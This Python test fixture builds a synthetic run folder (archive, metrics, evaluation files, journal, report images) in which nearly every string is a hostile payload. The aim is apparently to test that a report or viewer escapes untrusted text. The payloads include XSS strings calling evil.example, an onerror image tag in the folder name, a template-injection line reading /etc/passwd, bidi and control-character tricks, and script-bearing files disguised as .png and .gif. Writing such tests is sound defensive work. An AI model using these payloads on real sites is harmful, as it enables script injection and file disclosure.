"""A run's folder in which every text is an attack on whoever looks at it, and some numbers are none."""

import json
from dataclasses import replace
from pathlib import Path

from dicode.curriculum.archive import Archive
from dicode.curriculum.snapshot import Assessment, DreamRecord, Snapshot, target_record
from dicode.dreaming.calls import Answer, Kind, Message, Request
from dicode.dreaming.journal import Journal
from dicode.types import (
    Accepted,
    Brief,
    Code,
    LevelRecord,
    Origin,
    ParentReport,
    Rejected,
    Repair,
    Status,
    Trial,
    level_id,
)

EVIL = "evil.example"
TEXTS = (
    "<script>fetch('http://evil.example/')</script>",
    '"><img src=http://evil.example/x.png onerror=alert(1)>',
    "'-alert(1)-'` onfocus=alert(1) autofocus tabindex=1 x='",
    "</title></textarea></pre></svg></style><script src=https://evil.example/x.js></script>",
    "</code><style>@import url(http://evil.example/a.css)</style><link rel=stylesheet href=http://evil.example/b.css>",
    "<iframe src=http://evil.example></iframe><base href=http://evil.example/><form action=http://evil.example>",
    "<svg onload=alert(1)><use href=http://evil.example/#x></svg><meta http-equiv=refresh content='0;http://evil.example'>",
    "{{ 7 * 7 }}{% include '/etc/passwd' %}{# x #}{{ self.__init__.__globals__ }}",
    "javascript:alert(1)//http://evil.example",
    "\u202egnp.exe\u2066right to left\u2069\u200b\u200f\ufeff\U000e0041 tag",
    "\x00\x1b[31mred\x07\x08\x7f\x85\u2028\u2029 controls\r\nnew\rline",
    "&lt;script&gt; &amp;#x202e; &#60;b&#62; %3Cscript%3E",
    "]]><!--<script>--><![CDATA[ <?php ?>",
    "\u0335\u0336" * 40 + "Z\u0351\u036b\u0343" * 40,
    "العربية עברית mixed with text",
)
LONG = "x = '" + "A<b>" * 262_144 + "'"


def text(number: int) -> str:
    return TEXTS[number % len(TEXTS)]


def level(number: int) -> str:
    return level_id(source(number))


def source(number: int) -> str:
    return LONG if number == 11 else f"# {number} {text(number)}\nGOAL = '''{text(number + 1)}\n" * 3


def record(number: int, born: int, parents: tuple[str, ...]) -> LevelRecord:
    goal: dict = {"achievements": [text(number), text(number + 1)], "minimum": {text(number + 2): 3.0}}
    odd: tuple[dict, ...] = ({"achievements": "EAT_COW", "minimum": 7}, {"minimum": {"survive": text(1)}}, {})
    rules = {text(number): {text(number + 1): 1e308}, "mob_health": {"nobody": 2}, "melee_spawn": text(4)}
    accepted = Accepted(
        goal if number % 7 else odd[number % 3], rules, text(3), hooks=(text(number),), warnings=(text(number + 5),),
        statistics={"floor": 3.0 if number % 2 else 1e30},
    )  # fmt: skip
    rejected = Rejected(text(number + 1)[:30], text(number), text(number + 2), code=Code.UNTOLD)
    return LevelRecord(
        id=level(number),
        source=source(number),
        description=text(number),
        origin=Origin.FOUNDATION,
        parents=parents,
        move=text(number + 3),
        born=born,
        verdict=rejected if number % 5 == 4 else accepted,
        repairs=(Repair(text(number), text(1), text(2), text(3)),) if number % 50 == 0 else (),
        requests=(request(number).key,) if number < 30 else (),
    )


def request(number: int) -> Request:
    said = (Message("system", text(number)), Message("user", text(number + 1)))
    return Request(0, number, text(2)[:20], 0, "openai", text(number), said, 100)


def snapshots(levels: int, cycles: int) -> list[Snapshot]:
    """A run's snapshots, one before each commit."""
    snapshot, told = Snapshot().with_levels([target_record()]), []
    each = levels // cycles
    for cycle in range(cycles):
        numbers = range(cycle * each, (cycle + 1) * each)
        born = [record(n, cycle, (level(n - each),) if cycle else (level(10**9),)) for n in numbers]
        snapshot = snapshot.with_levels(born)
        trials = tuple(
            Trial(one.id, cycle, 30, n % 31, 1.0, 9.0, {text(n): 0.5}, score=0.1)
            for n, one in zip(numbers, born, strict=True)
        )
        snapshot = snapshot.after(cycle, Assessment(trials, {one.id: Status.C for one in born}))
        parent = ParentReport(born[0], (), ())
        snapshot = snapshot.with_briefs([Brief(cycle, 0, parent, {text(cycle): 0.5}, 1.0, (born[1],), frozenset())])
        lost = DreamRecord(cycle, cycle - 1, 0, None, Rejected("lost", text(cycle), text(cycle + 1), code=Code.UNTOLD))
        snapshot = snapshot.with_outcomes([lost] if cycle else [])
        told.append(replace(snapshot, cycle=cycle))
    return told


def write(folder: Path, levels: int, cycles: int = 10) -> Path:
    """The run; its name is an attack as well."""
    run = folder / 'run"><img src=x onerror=alert(1)>'
    run.mkdir()
    (run / "config.yaml").write_text(json.dumps({"seed": 1, "method": {"name": text(0)}, text(3): text(4)}))
    with Archive(run / "archive.sqlite") as archive:
        for cycle, snapshot in enumerate(snapshots(levels, cycles)):
            archive.commit(cycle, snapshot)
    rows = [{"cycle": i, "env_steps": 100 * i, "target_return": i, "target_success": {text(i): 0.5}} for i in range(5)]
    odd = [
        {
            "cycle": 7,
            "env_steps": 9e99,
            "target_return": float("nan"),
            "status": {"A": float("inf")},
            "fm": {"total": text(1)},
        }
    ]
    odd += [{"cycle": text(1)}, [1, 2], "text", {"cycle": 8, "env_steps": 900, "status": [text(1)], "fm": 3}]  # type: ignore[list-item]
    (run / "metrics.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows + odd) + '{"torn')
    (run / "evaluation").mkdir()
    good = {
        "protocol": "target",
        "worlds": 2,
        "steps": 9,
        "checkpoint": text(1),
        "env_steps": 400,
        "returns": [1.0, 2.0],
    }
    (run / "evaluation" / "a.json").write_text(
        json.dumps(good | {"achievements": {"EAT_COW": text(1)}, "success": text(2)})
    )
    (run / "evaluation" / "<b>.json").write_text(json.dumps(good | {"worlds": text(1)}))
    with Journal(run / "journal") as journal:
        for number in range(30):
            journal.record(request(number), Answer(Kind.TEXT, text(number) * 3, text(number + 1), model=text(number)))
    pictures = run / "report" / "pictures"
    pictures.mkdir(parents=True)
    (pictures / f"{level(0)}.png").write_text("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>")
    (run / "report" / "target.gif").write_text("<script>alert(1)</script>")
    return run
